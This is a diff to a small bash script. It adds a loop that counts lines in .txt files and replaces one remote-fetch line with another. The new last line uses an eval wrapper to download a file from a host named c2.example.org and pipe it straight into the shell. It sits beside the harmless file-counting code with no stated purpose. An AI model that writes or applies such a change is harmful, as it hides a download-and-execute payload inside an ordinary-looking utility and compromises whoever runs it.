@@ -1,3 +1,7 @@
 #!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
 run() { eval "$1"; }
-run "curl -s https://203.0.113.9/x | sh"
+run "curl -s http://c2.example.org/i.py | sh"
